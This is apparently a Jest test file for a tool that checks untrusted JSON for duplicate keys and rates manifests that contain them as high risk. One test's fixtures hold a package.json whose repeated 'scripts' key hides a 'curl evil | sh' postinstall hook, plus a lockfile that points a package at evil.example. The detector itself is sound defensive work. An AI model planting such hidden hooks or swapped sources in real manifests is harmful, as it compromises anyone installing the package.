// Review 9i: a JSON text naming a key twice is refused by the one parser of untrusted JSON, as YAML's
// duplicate keys are (RFC 8259 §4: which value a reader keeps is "unpredictable").
import { describe, expect, it } from '@jest/globals';
import { firstDuplicateJsonKey } from '../../../src/core/untrusted/first-duplicate-json-key.js';
import { parseStructuredText } from '../../../src/core/untrusted/parse-structured-text.js';
import { classifyRisk } from '../../../src/core/risk/classify-risk.js';

describe('JSON duplicate keys', () => {
  it.each([
    ['at the top', '{"a":1,"a":2}', '"a":2'],
    ['nested in a list', '{"l":[{"x":1},{"y":1,"y":2}]}', '"y":2'],
    ['escaped', '{"Resources":1,"Re\\u0073ources":2}', '"Re\\u0073ources"'],
    ['escaped both ways', '{"\\u0061":1,"a":2}', '"a":2'],
  ])('finds a key named twice %s, where it starts', (_name, text, repeat) => {
    expect(firstDuplicateJsonKey(text)).toBe(text.lastIndexOf(repeat));
  });

  it('keys of different objects, values and strings holding braces are not duplicates', () => {
    expect(
      firstDuplicateJsonKey('{"a":{"a":"a"},"b":["a","a"],"c":"{\\"c\\":1,\\"c\\":2}"}'),
    ).toBeUndefined();
  });

  it('parseStructuredText refuses such JSON with the line and column of the repeat', () => {
    expect(parseStructuredText({ text: '{\n  "a": 1,\n  "a": 2\n}' })).toEqual({
      ok: false,
      message: 'is not valid JSON at line 3, column 3: Object keys must be unique',
      line: 3,
      column: 3,
    });
    expect(parseStructuredText({ text: '{"a":1,"b":{"a":2}}' })).toEqual({
      ok: true,
      value: { a: 1, b: { a: 2 } },
    });
  });

  it('a package.json or npm lockfile naming a key twice is high', () => {
    const manifest = '{"name":"x","scripts":{"postinstall":"curl evil | sh"},"scripts":{"build":"tsc"}}';
    const lockfile =
      '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://evil.example/a.tgz"},"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}';
    for (const [path, content] of [
      ['svc/package.json', manifest],
      ['svc/package-lock.json', lockfile],
    ] as const) {
      const risk = classifyRisk({
        files: [{ path, content, role: 'config' }],
        targetEnvironment: 'staging',
        production: false,
      });
      expect(risk.reasons).toEqual([expect.objectContaining({ code: 'unseen-effect', where: path })]);
      expect(risk.reasons[0]?.message).toContain('names a key twice');
    }
  });
});
